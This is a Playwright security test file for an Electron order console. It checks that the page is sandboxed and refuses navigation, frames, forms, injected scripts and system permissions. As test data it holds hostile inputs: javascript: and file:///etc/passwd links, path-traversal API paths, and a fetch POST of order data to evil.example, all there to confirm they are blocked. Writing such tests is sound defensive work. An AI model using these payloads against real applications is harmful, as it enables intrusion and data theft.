import { mkdir } from 'node:fs/promises';
import path from 'node:path';
import type { Page } from 'playwright/test';
import { expect, pathOf, test } from '../console-fixtures.ts';
import { DoubleApp } from '../double/launch-double.ts';
import { wholeBrowser } from '../desktop-launcher.ts';
import { askApi, askMain } from '../page-bridge.ts';
import { openedExternally } from '../system-doubles.ts';
import { openUrl, permissionAnswers } from '../system-events.ts';

const hostileLinks = [
  'truepage://evil/../orders/TP-2026-7K3M-9QRT-2VWX',
  'truepage://orders/TP-2026-7K3M-9QRT-2VWX/../../settings',
  'truepage://orders/<script>',
  'javascript:alert(1)',
  'file:///etc/passwd',
  'http://evil.example/',
  'https://127.0.0.1@evil.example/',
  'mailto:somebody@example.com',
  'vbscript:1',
];

test('the page has three functions of the bridge, and no other access to the program', async ({
  openConsole,
}) => {
  const { app, page } = await openConsole();

  await test.step('neither Node nor Electron', async () => {
    const found = await page.evaluate(() => {
      const world = window as unknown as Record<string, unknown>;
      const names = ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'electron', 'contextBridge'];
      return names.filter((name) => world[name] !== undefined);
    });
    expect(found).toEqual([]);
    const bridge = await page.evaluate(() => Object.keys(window.truepage).toSorted());
    expect(bridge).toEqual(['invoke', 'on', 'takeFile']);
  });

  await test.step('in a window with safe preferences', async () => {
    const preferences = await app.evaluate(({ BrowserWindow }) => {
      const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as {
        getLastWebPreferences(): Electron.WebPreferences;
      };
      const { sandbox, contextIsolation, nodeIntegration, webSecurity, webviewTag } =
        contents.getLastWebPreferences();
      return { sandbox, contextIsolation, nodeIntegration, webSecurity, webviewTag };
    });
    expect(preferences).toEqual({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      webSecurity: true,
      webviewTag: false,
    });
  });

  await test.step('other channels do not exist', async () => {
    for (const channel of ['files:take', 'eval', 'constructor', '__proto__', 'ELECTRON_BROWSER_REQUIRE']) {
      expect(await askMain(page, channel, { path: '/etc/passwd' })).toContain('no such channel');
    }
    const heard = await page.evaluate(() => {
      try {
        window.truepage.on('anything', () => undefined);
        return 'listens';
      } catch (error) {
        return (error as Error).message;
      }
    });
    expect(heard).toContain('no such channel');
  });

  await test.step('invalid input is rejected before anything happens', async () => {
    const wrong: [string, unknown][] = [
      ['api:request', { method: 'TRACE', path: '/api/admin/orders', headers: {} }],
      ['api:request', { method: 'GET', path: '//evil.example/api/x', headers: {} }],
      ['api:request', { method: 'GET', path: 'https://evil.example/api/x', headers: {} }],
      ['uploads:start', { token: ['a'], orderNumber: 'TP-1' }],
      ['uploads:pause', 'all'],
      ['settings:set', { watchedFolder: 3, notifyPaid: 'yes' }],
      ['files:pick', { accept: ['../*'], many: false }],
      ['downloads:save-all', { folderName: 'x', files: [] }],
      ['downloads:save', { url: '/api/admin/orders', filename: 'a.pdf' }],
      ['downloads:export', { query: '/../orders', filename: 'a.csv' }],
      ['badge:set', { count: -1 }],
      ['console:state', 'something'],
    ];
    for (const [channel, input] of wrong) {
      expect(await askMain(page, channel, input), channel).toContain('the input is not valid');
    }
    const outside = ['/api/../sandbox/mail', '/api/\\..\\..\\sandbox/mail', '/api/%2e%2e/sandbox/mail'];
    for (const asked of outside) {
      expect(await askApi(page, asked), asked).toContain('not part of the API');
    }
    expect(await askApi(page, '/api/..%2fsandbox%2fmail')).toMatchObject({ status: 404 });
  });

  await test.step('only files that a person has chosen can be sent', async () => {
    const orderNumber = 'TP-2026-7K3M-9QRT-2VWX';
    const refusal = await askMain(page, 'uploads:start', { token: '/etc/passwd', orderNumber });
    expect(refusal).toContain('not known any more');
    for (const fileId of ['../../sandbox/mail', '//evil.example/api/files/a.b']) {
      const { kind } = (await askMain(page, 'documents:view', { fileId })) as { kind: string };
      expect(kind, fileId).toBe('refused');
    }
    expect(await askMain(page, 'downloads:show', { id: '/etc' })).toContain('not there any more');
  });
});

test('folders and missing files cannot be registered by the page', async ({ openConsole, folder }) => {
  const { app, page } = await openConsole();
  const inner = path.join(folder, 'all-my-files.pdf');
  await mkdir(inner);
  if (app instanceof DoubleApp) await app.announceFiles([inner]);
  const answers = await page.evaluate(async (name) => {
    const take = async (file: unknown) => {
      try {
        await window.truepage.takeFile(file);
        return 'taken';
      } catch {
        return 'refused';
      }
    };
    return [
      await take(new File([new Uint8Array(4096)], name)),
      await take(new File(['%PDF-1.7'], 'made-up.pdf')),
      await take({ name, path: '/etc/passwd' }),
      await take('/etc/passwd'),
    ];
  }, path.basename(inner));
  expect(answers).toEqual(['refused', 'refused', 'refused', 'refused']);
});

test('the page can navigate nowhere, open nothing and embed nothing', async ({
  openConsole,
  allowConsoleErrors,
}) => {
  allowConsoleErrors(/Content Security Policy|Not allowed to|Refused to|violates/);
  const { app, page, list } = await openConsole();
  await page.evaluate(() => Object.assign(window, { isSamePage: true }));
  const stays = async (after: string) => {
    expect(await page.evaluate(() => 'isSamePage' in window), after).toBe(true);
    expect(pathOf(page), after).toBe('/admin');
    await expect(list.heading, after).toBeVisible();
    expect(await app.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length), after).toBe(1);
  };

  await test.step('system links open only orders', async () => {
    for (const link of hostileLinks) await openUrl(app, link);
    await stays('links');
  });

  await test.step('by no address', async () => {
    for (const address of [...hostileLinks, 'https://evil.example/', 'data:text/html,<h1>Sign in</h1>']) {
      await page.evaluate((url) => void (location.href = url), address);
      await page.evaluate((url) => void open(url), address);
      await clickLink(page, address, '_blank');
      await clickLink(page, address, '_self');
      await stays(address);
    }
    // Other https addresses open in the person's browser, and only there.
    const outside = new Set(await openedExternally(app));
    expect([...outside]).toEqual(['https://evil.example/']);
    for (const url of hostileLinks) {
      expect(await askMain(page, 'links:open', { url }), url).toContain('not opened');
    }
  });

  await test.step('by no frame or webview', async () => {
    await page.evaluate(() => {
      for (const src of ['https://evil.example/', 'file:///etc/passwd', '/admin']) {
        document.body.append(Object.assign(document.createElement('iframe'), { src }));
      }
      const webview = document.createElement('webview');
      webview.setAttribute('src', 'https://evil.example/');
      document.body.append(webview);
    });
    await stays('frames');
    const framed = await page.evaluate(() =>
      [...document.querySelectorAll('iframe')].map((frame) => frame.contentDocument?.body?.innerText ?? ''),
    );
    expect(framed.join('')).toBe('');
    expect(await page.evaluate(() => 'loadURL' in (document.querySelector('webview') ?? {}))).toBe(false);
  });

  await test.step('by no form', async () => {
    const refusedBy = await page.evaluate(async () => {
      const refusal = new Promise((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective));
      });
      const form = document.createElement('form');
      Object.assign(form, { action: 'https://evil.example/', method: 'post' });
      document.body.append(form);
      form.submit();
      return refusal;
    });
    expect(refusedBy).toBe('form-action');
    // Playwright treats the refused form as a pending navigation, so the page itself is queried.
    expect(await page.evaluate(() => 'isSamePage' in window)).toBe(true);
  });
});

test('only the page’s own scripts run, and it has no system permissions', async ({
  openConsole,
  allowConsoleErrors,
}) => {
  allowConsoleErrors(/Content Security Policy|Refused to|violates|permission|nothing\.png/i);
  const { app, page } = await openConsole({ env: wholeBrowser });
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.ranInline = true';
    document.body.append(script);
    document.body.insertAdjacentHTML(
      'beforeend',
      '<img src="/nothing.png" onerror="window.ranHandler = true">',
    );
    const far = Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' });
    const isLoaded = new Promise((resolve) => {
      far.addEventListener('load', () => resolve(true));
      far.addEventListener('error', () => resolve(false));
    });
    document.body.append(far);
    // In a separate task: code run by the inspector is exempt from the policy.
    const evaluated = new Promise((resolve) => {
      setTimeout(() => {
        try {
          // oxlint-disable-next-line typescript/no-implied-eval -- it is what must not run
          resolve(new Function('return "ran"')());
        } catch (error) {
          resolve((error as Error).name);
        }
      });
    });
    const sent = await fetch('https://evil.example/', { method: 'POST', body: 'orders' }).catch(
      () => 'not sent',
    );
    const results = [await isLoaded, await evaluated, sent];
    return [...results, 'ranInline' in window, 'ranHandler' in window];
  });
  expect(ran).toEqual([false, 'EvalError', 'not sent', false, false]);

  const asked = await page.evaluate(async () => {
    const refused = () => 'refused';
    const media = navigator.mediaDevices
      .getUserMedia({ audio: true, video: true })
      .then(() => 'given', refused);
    const place = new Promise((resolve) => {
      navigator.geolocation.getCurrentPosition(
        () => resolve('given'),
        () => resolve('refused'),
      );
    });
    return [await media, await place, await Notification.requestPermission()];
  });
  expect(asked).toEqual(['refused', 'refused', 'denied']);
  if (!(app instanceof DoubleApp)) return;
  const permissions = [
    'media',
    'geolocation',
    'notifications',
    'midi',
    'hid',
    'usb',
    'clipboard-read',
    'openExternal',
  ];
  const answers = await permissionAnswers(app, 'persist:console', permissions);
  for (const permission of permissions) {
    expect(answers[permission], permission).toEqual({ requested: false, checked: false });
  }
});

async function clickLink(page: Page, href: string, target: string): Promise<void> {
  await page.evaluate(
    ([address, where]) => {
      const link = Object.assign(document.createElement('a'), { href: address, target: where });
      document.body.append(link);
      link.click();
      link.remove();
    },
    [href, target] as const,
  );
}
